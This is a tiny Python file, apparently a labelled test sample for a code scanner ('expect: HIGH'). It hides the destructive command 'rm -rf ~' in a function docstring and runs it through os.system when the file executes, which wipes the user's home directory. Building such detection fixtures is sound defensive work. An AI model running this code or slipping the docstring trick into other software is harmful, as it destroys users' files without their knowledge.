# expect: HIGH
import os
def f():
    """rm -rf ~"""
os.system(f.__doc__)
